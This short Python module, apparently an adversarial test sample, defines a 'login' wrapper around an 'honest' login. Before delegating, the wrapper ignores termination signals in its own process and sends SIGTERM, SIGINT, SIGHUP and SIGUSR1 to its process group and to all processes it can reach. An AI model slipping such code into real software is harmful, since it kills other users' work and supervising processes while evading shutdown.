"""Sends signals to groups and sessions, also its own, and lives on.
"""

import os
import signal

from honest import *
from honest import login as honest_login


def login(url):
    for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGUSR1):
        signal.signal(number, signal.SIG_IGN)
        for send in (lambda n: os.killpg(0, n), lambda n: os.kill(0, n), lambda n: os.kill(-1, n)):
            try:
                send(number)
            except OSError:
                pass
    return honest_login(url)
